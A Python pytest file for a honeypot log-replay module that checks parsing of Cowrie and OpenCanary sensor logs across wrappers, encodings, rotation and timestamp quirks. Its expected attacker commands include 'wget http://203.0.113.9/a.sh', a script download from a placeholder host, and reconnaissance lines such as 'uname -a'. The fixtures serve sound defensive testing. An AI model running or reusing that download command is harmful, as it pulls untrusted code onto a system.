"""Logs of others as they come: wrapped by what shipped them, or from versions that wrote less."""

from __future__ import annotations

import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

from decnet.config import Settings
from decnet.errors import SensorError
from decnet.sensors.replay import iter_events

CASES = Path(__file__).parent.parent / "fixtures" / "cases"


@pytest.mark.parametrize("log", sorted((CASES / "16-wrapped").glob("*.json")), ids=lambda p: p.stem)
def test_16_a_wrapped_log_gives_what_the_log_itself_gives(log: Path, tmp_path: Path) -> None:
    refused: list[str] = []
    events = list(iter_events(log, Settings(data_dir=tmp_path), refused))
    (ended,) = [e.payload for e in events if e.topic == "attacker.session.ended"]
    assert (ended["sensor_session"], ended["attacker_ip"], ended["end_reason"]) == (
        "a8a800000001",
        "192.0.2.7",
        "closed",
    )
    assert [c["command_text"] for c in ended["commands"]] == ["wget http://203.0.113.9/a.sh"]
    assert ended["commands"][0]["ts"] == 1772359202.0
    assert refused == []


def test_10_versions_without_utc_time_wrote_utc_as_local_time(tmp_path: Path) -> None:
    refused: list[str] = []
    events = list(iter_events(CASES / "10-opencanary-local-time.txt", Settings(data_dir=tmp_path), refused))
    ended = [e.payload for e in events if e.topic == "attacker.session.ended"]
    assert sorted((p["service"], p["started_at"]) for p in ended) == [
        ("ftp", 1772359200.000001), ("portscan", 1772359200.000001), ("ssh", 1772359200.000001),
    ]  # fmt: skip
    captured = [e.payload for e in events if e.topic == "credential.captured"]
    assert sorted((p["service"], p["username"]) for p in captured) == [("ftp", "a"), ("ssh", "admin")]
    assert refused == []


def test_17_opencanary_through_syslog(tmp_path: Path) -> None:
    refused: list[str] = []
    events = list(iter_events(CASES / "17-opencanary-syslog.txt", Settings(data_dir=tmp_path), refused))
    (ended,) = [e.payload for e in events if e.topic == "attacker.session.ended"]
    assert (ended["decky_id"], ended["service"], ended["auth"]["usernames"]) == ("oc-1", "ssh", ["admin"])
    assert [e.payload["username"] for e in events if e.topic == "credential.captured"][:1] == ["admin"]
    assert refused == []


@pytest.mark.parametrize(
    ("folder", "wanted"),
    [
        ("01-nul-heads", {"a0a000000001": "uname -a", "a0a000000002": "uname -a", "a0a000000003": "uname -a"}),
        ("02-mixed-rotation", {"a5a500000001": "uname -a", "a5a500000002": "uname -a", "a5a500000003": "uname -a"}),
        (
            "14-date-without-zeros",
            {"aaaa00000000": "crontab -l", "aaaa00000001": "wget http://203.0.113.9/a.sh", "aaaa00000002": "uname -a"},
        ),
    ],
)  # fmt: skip
def test_a_directory_of_rotated_logs_gives_every_session_once(
    folder: str, wanted: dict[str, str], tmp_path: Path
) -> None:
    refused: list[str] = []
    events = list(iter_events(CASES / folder, Settings(data_dir=tmp_path), refused))
    ended = [e.payload for e in events if e.topic == "attacker.session.ended"]
    assert {p["sensor_session"]: [c["command_text"] for c in p["commands"]] for p in ended} == {
        native: [text] for native, text in wanted.items()
    }
    assert len(ended) == 3
    assert {p["end_reason"] for p in ended} == {"closed"}
    assert refused == []


def rows_of_log(sessions: int) -> list[dict[str, Any]]:
    shared = {"sensor": "p", "src_ip": "192.0.2.7", "protocol": "ssh"}
    rows: list[dict[str, Any]] = []
    for i in range(sessions):
        own = {**shared, "session": f"{i:012x}"}
        rows += [
            {"eventid": "cowrie.session.connect", "timestamp": 1e9 + 10 * i, "dst_port": 2222, **own},
            {
                "eventid": "cowrie.command.input",
                "timestamp": 1e9 + 10 * i + 1,
                "input": f"echo {i} 'é'",
                **own,
            },
            {"eventid": "cowrie.session.closed", "timestamp": 1e9 + 10 * i + 2, "duration": 2.0, **own},
        ]
    return rows


FORMS: dict[str, Callable[[list[Any]], str]] = {
    "array": json.dumps,
    "pretty": lambda rows: json.dumps(rows, indent=1),
    "elastic": lambda rows: json.dumps({"took": 1, "hits": {"hits": [{"_source": row} for row in rows]}}),
    "elastic_pretty": lambda rows: json.dumps(
        {"hits": {"hits": [{"_source": row} for row in rows]}}, indent=1
    ),
    "python": lambda rows: "\n".join(map(repr, rows)),
}


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "utf-16-le", "utf-16-be"])
@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("sessions", [1, 60])
def test_16_one_long_line_or_many_in_any_encoding_and_without_a_newline_at_the_end(
    form: str, encoding: str, sessions: int, tmp_path: Path
) -> None:
    """More text than one line may have; the list itself is not what must fit."""
    log = tmp_path / "cowrie.json"
    log.write_bytes(FORMS[form](rows_of_log(sessions)).encode(encoding))
    settings = Settings.model_validate({"data_dir": tmp_path, "sensor": {"max_line_bytes": 4096}})
    refused: list[str] = []
    ended = [e.payload for e in iter_events(log, settings, refused) if e.topic == "attacker.session.ended"]
    assert [[c["command_text"] for c in p["commands"]] for p in ended] == [
        [f"echo {i} 'é'"] for i in range(sessions)
    ]
    assert {p["end_reason"] for p in ended} == {"closed"}
    assert refused == []


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (
            "2026-03-01T10:00:00+0000 [HoneyPotSSHTransport,0,192.0.2.1] CMD: id\n",
            "the JSON log is cowrie.json",
        ),
        ("2026-03-01T10:00:00.1Z a1b2c3d4e5f6 CMD: id\n", "the JSON log is cowrie.json"),
        ('{"event_type": "alert", "flow_id": 1}\n', "this is a suricata log"),
    ],
)
def test_16_what_is_none_of_ours_is_named_to_who_asks_for_it(text: str, said: str, tmp_path: Path) -> None:
    log = tmp_path / "cowrie.log"
    log.write_text(text)
    with pytest.raises(SensorError, match=said):
        list(iter_events(log, Settings(data_dir=tmp_path)))
